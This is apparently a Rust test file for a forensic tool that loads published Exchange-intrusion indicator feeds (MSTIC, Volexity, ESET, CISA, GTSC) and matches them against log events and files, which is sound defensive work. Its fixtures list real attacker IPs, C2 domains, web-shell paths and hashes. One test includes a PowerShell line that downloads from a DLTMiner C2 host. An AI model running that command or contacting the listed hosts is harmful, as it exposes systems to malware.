//! Importers on the publishers' real files, the built-in packs, and matching.

use std::borrow::Cow;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use exhunt_ioc::{
    Indicator, IndicatorKind, IocSet, finding_for_event_hit, finding_for_file_hit, load,
};
use exhunt_model::{Event, Locator, LogSource};

fn shared() -> Option<PathBuf> {
    let p = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../../shared");
    if p.is_dir() {
        Some(p)
    } else {
        println!("SKIP: ../shared not found");
        None
    }
}

fn counts(v: &[Indicator]) -> BTreeMap<IndicatorKind, usize> {
    let mut m = BTreeMap::new();
    for i in v {
        *m.entry(i.kind).or_insert(0) += 1;
    }
    m
}

fn labels(v: &[Indicator]) -> std::collections::BTreeSet<String> {
    v.iter().filter_map(|i| i.label.clone()).collect()
}

#[test]
fn mstic_feed_csv() {
    let Some(s) = shared() else { return };
    let (v, w) = load(&s.join(
        "data/iocs/azure_sentinel_mstic/MSTICIoCs-ExchangeServerVulnerabilitiesDisclosedMarch2021.csv",
    ))
    .unwrap();
    let c = counts(&v);
    println!("MSTIC: {c:?}, warnings {w:?}");
    assert!(w.is_empty());
    assert_eq!(c[&IndicatorKind::Sha256], 14);
    assert_eq!(c[&IndicatorKind::PathPattern], 47);
    assert!(v.iter().all(|i| i.publisher == "Microsoft MSTIC"));
}

#[test]
fn volexity_csv_and_chirp_yaml() {
    let Some(s) = shared() else { return };
    let (v, _) = load(&s.join(
        "data/iocs/volexity/2021/2021-03-02 - Operation Exchange Marauder/indicators/indicators.csv",
    ))
    .unwrap();
    println!("Volexity: {:?}", counts(&v));
    assert_eq!(counts(&v)[&IndicatorKind::Ip], 13);
    assert!(labels(&v).contains("Operation Exchange Marauder"));
    let (v, w) = load(&s.join("data/iocs/cisa_chirp/indicators/AA21-062A/AA21062A.yaml")).unwrap();
    let c = counts(&v);
    println!("CHIRP: {c:?}; {} not imported", w.len());
    assert_eq!(c[&IndicatorKind::Ip], 15);
    assert_eq!(
        c[&IndicatorKind::UserAgent],
        14,
        "15 UA strings, one repeated"
    );
    assert!(
        labels(&v).contains("HAFNIUM"),
        "CHIRP names 'possible Hafnium activity'"
    );
    assert!(
        !w.is_empty(),
        "log-content indicators are reported, not silently dropped"
    );
}

#[test]
fn eset_readme_and_hash_lists() {
    let Some(s) = shared() else { return };
    let base = s.join("data/iocs/eset/exchange_exploitation");
    let (v, w) = load(&base.join("README.adoc")).unwrap();
    let c = counts(&v);
    println!("ESET README: {c:?} labels {:?}", labels(&v));
    assert!(w.is_empty(), "{w:?}");
    assert_eq!(c[&IndicatorKind::Sha1], 23);
    assert_eq!(c[&IndicatorKind::Ip] + c[&IndicatorKind::Domain], 17);
    let l = labels(&v);
    for actor in [
        "Calypso",
        "Tick",
        "LuckyMouse",
        "Winnti Group",
        "Tonto Team",
        "Mikroceen",
        "Websiic",
        "DLTMiner",
        "Opera Cobalt Strike",
        "Unclassified ShadowPad",
    ] {
        assert!(l.contains(actor), "missing ESET label {actor}: {l:?}");
    }
    let tick = v.iter().find(|i| i.value == "www.averyspace.net").unwrap();
    assert_eq!(tick.label.as_deref(), Some("Tick"));
    for (f, k) in [
        ("samples.md5", IndicatorKind::Md5),
        ("samples.sha1", IndicatorKind::Sha1),
        ("samples.sha256", IndicatorKind::Sha256),
    ] {
        let (v, w) = load(&base.join(f)).unwrap();
        assert!(w.is_empty());
        assert_eq!(counts(&v)[&k], 23, "{f}");
        assert!(v.iter().all(|i| i.publisher == "ESET"));
    }
}

#[test]
fn signature_base_lists() {
    let Some(s) = shared() else { return };
    let d = s.join("data/iocs/signature-base");
    let (v, w) = load(&d.join("filename-iocs.exchange.txt")).unwrap();
    println!(
        "signature-base exchange filenames: {:?}, {} skipped",
        counts(&v),
        w.len()
    );
    let lines = std::fs::read_to_string(d.join("filename-iocs.exchange.txt"))
        .unwrap()
        .lines()
        .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
        .count();
    assert_eq!(
        counts(&v)[&IndicatorKind::PathPattern],
        lines,
        "one pattern per non-comment line"
    );
    let l = labels(&v);
    assert!(
        l.contains("Tick") && l.contains("Calypso") && l.contains("Mikroceen"),
        "{l:?}"
    );
    let (v, w) = load(&d.join("hash-iocs.exchange.txt")).unwrap();
    assert!(w.is_empty());
    assert_eq!(counts(&v)[&IndicatorKind::Sha256], 8);
    assert!(v.iter().all(|i| i.label.as_deref() == Some("HAFNIUM")));
    // The full lists load too (regexes the Rust engine rejects are reported, not fatal).
    let (v, w) = load(&d.join("filename-iocs.txt")).unwrap();
    println!(
        "signature-base filename-iocs.txt: {} patterns, {} skipped",
        v.len(),
        w.len()
    );
    assert!(v.len() > 3000);
    let (v, _) = load(&d.join("c2-iocs.txt")).unwrap();
    println!("signature-base c2-iocs.txt: {:?}", counts(&v));
    assert!(v.len() > 1500);
}

#[test]
fn stix_bundle_example() {
    let Some(s) = shared() else { return };
    let (v, w) = load(&s.join("data/examples/proxylogon-attribution-example.stix21.json")).unwrap();
    let c = counts(&v);
    println!("STIX: {c:?} warnings {w:?}");
    // The indicator's pattern and the observed file SCO (name + SHA-256) carry the same hash.
    assert_eq!(c[&IndicatorKind::Sha256], 2);
    assert_eq!(c[&IndicatorKind::FileName], 1, "observed-data file SCO");
    assert!(
        v.iter()
            .filter(|i| i.kind == IndicatorKind::Sha256)
            .all(|i| i.value.starts_with("b75f163c"))
    );
    let h = v
        .iter()
        .find(|i| i.kind == IndicatorKind::Sha256 && i.valid_from.is_some())
        .unwrap();
    assert_eq!(
        h.value,
        "b75f163ca9b9240bf4b37ad92bc7556b40a17e27c2b8ed5c8991385fe07d17d0"
    );
    assert!(h.valid_from.is_some());
    assert!(h.description.as_deref().unwrap().contains("MSTIC"));
}

#[test]
fn stix_labels_from_indicates_relationships() {
    let bundle = r#"{"type":"bundle","id":"bundle--1","objects":[
      {"type":"identity","id":"identity--1","name":"ESET"},
      {"type":"intrusion-set","id":"intrusion-set--1","name":"Tick"},
      {"type":"malware","id":"malware--1","name":"ShadowPad"},
      {"type":"indicator","id":"indicator--1","created_by_ref":"identity--1","pattern_type":"stix",
       "pattern":"[domain-name:value = 'www.averyspace.net'] OR [ipv4-addr:value = '77.83.159.15']","valid_from":"2021-03-10T00:00:00Z"},
      {"type":"indicator","id":"indicator--2","pattern_type":"stix","pattern":"[url:value = 'http://lab.symantecsafe.org/x'] OR [file:name = 'dukybySSSS.aspx']"},
      {"type":"relationship","id":"relationship--1","relationship_type":"indicates","source_ref":"indicator--1","target_ref":"intrusion-set--1"},
      {"type":"relationship","id":"relationship--2","relationship_type":"indicates","source_ref":"indicator--2","target_ref":"malware--1"}
    ]}"#;
    let (v, w) = exhunt_ioc::load_str(bundle, "t.json").unwrap();
    assert!(w.is_empty(), "{w:?}");
    assert_eq!(v.len(), 4);
    assert!(
        v[..2]
            .iter()
            .all(|i| i.label.as_deref() == Some("Tick") && i.publisher == "ESET")
    );
    assert!(
        v[2..]
            .iter()
            .all(|i| i.label.as_deref() == Some("ShadowPad"))
    );
    assert_eq!(v[3].kind, IndicatorKind::FileName);
}

#[test]
fn misp_event_example() {
    let Some(s) = shared() else { return };
    let (v, w) = load(&s.join("data/examples/mstic-exchange-2021.misp.json")).unwrap();
    let c = counts(&v);
    println!("MISP: {c:?} labels {:?}", labels(&v));
    assert!(w.is_empty(), "{w:?}");
    assert_eq!(c[&IndicatorKind::Sha256], 14);
    assert_eq!(
        c[&IndicatorKind::PathPattern],
        42,
        "full paths in `filename` attributes"
    );
    assert_eq!(
        labels(&v).into_iter().collect::<Vec<_>>(),
        vec!["HAFNIUM".to_string()]
    );
    assert!(v.iter().all(|i| i.publisher.starts_with("Microsoft")));
}

#[test]
fn builtin_packs_load_cleanly_and_cite_publishers() {
    let (v, w) = exhunt_ioc::builtin_indicators();
    assert!(w.is_empty(), "{w:?}");
    let set = IocSet::new(v.clone());
    assert!(set.warnings().is_empty(), "{:?}", set.warnings());
    println!(
        "built-in packs {:?}: {:?}",
        exhunt_ioc::BUILTIN_PACKS
            .iter()
            .map(|p| p.0)
            .collect::<Vec<_>>(),
        set.counts()
    );
    assert!(
        v.iter()
            .all(|i| !i.publisher.is_empty() && i.reference.starts_with("https://")),
        "every row cites publisher + URL"
    );
    let l = labels(&v);
    for actor in [
        "HAFNIUM",
        "Tick",
        "LuckyMouse",
        "Calypso",
        "Winnti Group",
        "Tonto Team",
        "Mikroceen",
        "Websiic",
    ] {
        assert!(l.contains(actor), "missing {actor}");
    }
    assert!(set.len() > 240);
}

fn event<'a>(ls: &'a LogSource, fields: &[(&'a str, &'a str)]) -> Event<'a> {
    Event {
        time: Some("2021-03-03T10:00:00Z".parse().unwrap()),
        locator: Locator::Line(7),
        source: ls,
        fields: fields
            .iter()
            .map(|(k, v)| (Cow::Borrowed(*k), Cow::Borrowed(*v)))
            .collect(),
        raw: Cow::Borrowed("raw line"),
    }
}

#[test]
fn match_event_ip_hops_ua_cidr_and_no_query_accident() {
    let set = IocSet::builtin();
    let ls = LogSource::new("exchange", Some("httpproxy"), None);
    // Two hops in ClientIpAddress, the Volexity IP second.
    let ev = event(
        &ls,
        &[
            ("ClientIpAddress", "10.0.0.5, 104.140.114.110"),
            ("UrlStem", "/owa/auth/x.js"),
        ],
    );
    let hits = set.match_event(&ev);
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0].field, "ClientIpAddress");
    assert_eq!(hits[0].value, "104.140.114.110");
    let f = finding_for_event_hit(
        &hits[0],
        &ev,
        &exhunt_detect::EvidenceSource {
            path: "Logging/HttpProxy/Owa/x.log",
            sha256: "00",
        },
        None,
    );
    assert_eq!(f.rule.level, "medium");
    assert_eq!(f.fields["ioc_source"], "Volexity");
    assert_eq!(f.fields["ioc_label"], "Operation Exchange Marauder");
    assert_eq!(
        f.rule.title,
        "Indicator match: IP 104.140.114.110 (Volexity: Operation Exchange Marauder)"
    );
    assert!(f.rule.source.starts_with("ioc:"));
    assert_eq!(f.evidence[0].line, Some(7));

    // Space-separated hops and a port.
    let ev = event(&ls, &[("c-ip", "203.160.69.66:51234")]);
    assert_eq!(set.match_event(&ev).len(), 1);

    // A Volexity UA as the IIS parser hands it over (the `+` of spaces decoded).
    let ls_iis = LogSource::new("windows", None, Some("webserver"));
    let ev = event(
        &ls_iis,
        &[
            ("cs(User-Agent)", "ExchangeServicesClient/0.0.0.0"),
            ("c-ip", "192.0.2.1"),
        ],
    );
    let hits = set.match_event(&ev);
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0].indicator.kind, IndicatorKind::UserAgent);
    // Crawler agents from Volexity's list are not indicators on their own (real crawlers visit
    // every Exchange server; the Sigma rule looks at crawler agents that POST).
    let ev = event(
        &ls_iis,
        &[(
            "cs(User-Agent)",
            "Mozilla/5.0 (compatible; Googlebot/2.1;  http://www.google.com/bot.html)",
        )],
    );
    assert!(set.match_event(&ev).is_empty());
    // The same UA in raw IIS form.
    let ev = event(&ls_iis, &[("cs(User-Agent)", "python-requests/2.25.1")]);
    assert_eq!(set.match_event(&ev).len(), 1);

    // The IP inside a URL query or a referer path is not an address field: nothing.
    let ev = event(
        &ls_iis,
        &[
            ("cs-uri-query", "ip=104.140.114.110&x=1"),
            ("c-ip", "192.0.2.10"),
            ("cs-uri-stem", "/owa/auth/logon.aspx"),
        ],
    );
    assert!(
        set.match_event(&ev).is_empty(),
        "{:?}",
        set.match_event(&ev)
    );

    // A CIDR from a user pack.
    let (v, _) = exhunt_ioc::load_str(
        "type,value,label,source,valid_from,valid_until\ncidr,198.51.100.0/24,TestActor,Example https://example.org/r,2021-01-01,2021-12-31\n",
        "user.csv",
    )
    .unwrap();
    let set2 = IocSet::new(v);
    let ev = event(&ls, &[("ClientIpAddress", "198.51.100.77")]);
    assert_eq!(set2.match_event(&ev).len(), 1);
    // Outside the validity window: nothing.
    let mut late = event(&ls, &[("ClientIpAddress", "198.51.100.77")]);
    late.time = Some("2023-01-01T00:00:00Z".parse().unwrap());
    assert!(set2.match_event(&late).is_empty());
}

#[test]
fn match_event_paths_domains_hashes() {
    let set = IocSet::builtin();
    let ls = LogSource::new("windows", Some("sysmon"), Some("file_event"));
    let ev = event(
        &ls,
        &[
            (
                "TargetFilename",
                r"C:\inetpub\wwwroot\aspnet_client\dukybySSSS.aspx",
            ),
            ("Image", r"C:\Windows\System32\inetsrv\w3wp.exe"),
        ],
    );
    let hits = set.match_event(&ev);
    assert!(
        hits.iter()
            .any(|h| h.indicator.label.as_deref() == Some("Tonto Team")),
        "{hits:?}"
    );
    // A request for a MSTIC webshell path.
    let ls_iis = LogSource::new("windows", None, Some("webserver"));
    let ev = event(&ls_iis, &[("cs-uri-stem", "/owa/auth/shel90.aspx")]);
    assert!(!set.match_event(&ev).is_empty());
    // ESET C2 domain, as a DNS query of a subdomain and inside a command line.
    let ls_dns = LogSource::new("windows", Some("sysmon"), Some("dns_query"));
    let ev = event(&ls_dns, &[("QueryName", "Lab.SymantecSafe.org")]);
    let hits = set.match_event(&ev);
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].indicator.label.as_deref(), Some("Tonto Team"));
    let ev = event(
        &ls_dns,
        &[("CommandLine", "powershell iwr http://p.estonine.com/p?a=1")],
    );
    assert!(
        set.match_event(&ev)
            .iter()
            .any(|h| h.indicator.label.as_deref() == Some("DLTMiner"))
    );
    let ev = event(&ls_dns, &[("CommandLine", "ping notp.estonine.company")]);
    assert!(set.match_event(&ev).is_empty());
    // Sysmon Hashes field, upper-case.
    let ev = event(
        &ls,
        &[(
            "Hashes",
            "MD5=00000000000000000000000000000000,SHA256=B75F163CA9B9240BF4B37AD92BC7556B40A17E27C2B8ED5C8991385FE07D17D0,IMPHASH=00",
        )],
    );
    let hits = set.match_event(&ev);
    assert!(
        !hits.is_empty()
            && hits
                .iter()
                .all(|h| h.indicator.kind == IndicatorKind::Sha256)
    );
    // Nothing at all in an ordinary event.
    let ev = event(
        &ls_iis,
        &[
            ("cs-uri-stem", "/owa/auth/logon.aspx"),
            ("c-ip", "192.0.2.1"),
            (
                "cs(User-Agent)",
                "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
            ),
        ],
    );
    assert!(set.match_event(&ev).is_empty());
}

/// GTSC's ProxyNotShell indicators: its web shell by path and by hash, its trojanised copy of a
/// legitimate page by hash only; the legitimate page itself, by path, is no indicator.
#[test]
fn match_file_gtsc_proxynotshell() {
    let set = IocSet::builtin();
    let auth =
        "case.zip!/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth";
    let gtsc = |hits: &[exhunt_ioc::IocHit]| hits.iter().any(|h| h.indicator.publisher == "GTSC");
    let zero = "0".repeat(64);
    assert!(gtsc(&set.match_file(
        &format!("{auth}/pxh4HG1v.ashx"),
        &zero,
        "",
        ""
    )));
    assert!(gtsc(&set.match_file(
        "case.zip!/C/PerfLogs/gpg-error.exe",
        &zero,
        "",
        ""
    )));
    let trojanised = "65a002fe655dc1751add167cf00adf284c080ab2e97cd386881518d3a31d27f5";
    let hits = set.match_file(
        &format!("{auth}/RedirSuiteServiceProxy.aspx"),
        trojanised,
        "",
        "",
    );
    assert!(
        gtsc(&hits) && hits.iter().all(|h| h.field == "sha256"),
        "{hits:?}"
    );
    let hits = set.match_file(
        &format!("{auth}/RedirSuiteServiceProxy.aspx"),
        &"1".repeat(64),
        "",
        "",
    );
    assert!(hits.is_empty(), "{hits:?}");
}

#[test]
fn match_file_mstic_hash_and_path() {
    let set = IocSet::builtin();
    let hits = set.match_file(
        "case.zip!/C/inetpub/wwwroot/aspnet_client/readme.txt",
        "2B6F1EBB2208E93ADE4A6424555D6A8341FD6D9F60C25E44AFE11008F5C1AAD1",
        "",
        "",
    );
    assert!(hits.iter().any(|h| h.field == "sha256"), "{hits:?}");
    let f = finding_for_file_hit(
        hits.iter().find(|h| h.field == "sha256").unwrap(),
        "case.zip!/x",
        "2b",
    );
    assert_eq!(f.rule.level, "high");
    // A MSTIC path (the feed's first path: 8Lw7tAhF9i1pJnRo.aspx in owa\auth), as found in a collection.
    let hits = set.match_file(
        "case.zip!/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/8Lw7tAhF9i1pJnRo.aspx",
        &"0".repeat(64),
        "",
        "",
    );
    assert!(
        hits.iter()
            .any(|h| h.indicator.publisher == "Microsoft MSTIC"),
        "{hits:?}"
    );
    // An MSTIC hash from the curated pack.
    let hits = set.match_file(
        "x",
        "8e90ed33c7ee82c0b64078ea36ec95f7420ba435c693b3b3dd728b494abf7dfc",
        "",
        "",
    );
    assert_eq!(hits.len(), 1);
    assert_eq!(hits[0].indicator.publisher, "Microsoft MSTIC");
    // A legitimate file: nothing.
    let hits = set.match_file(
        "C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/owa/auth/logon.aspx",
        &"1".repeat(64),
        &"1".repeat(40),
        &"1".repeat(32),
    );
    assert!(hits.is_empty(), "{hits:?}");
}
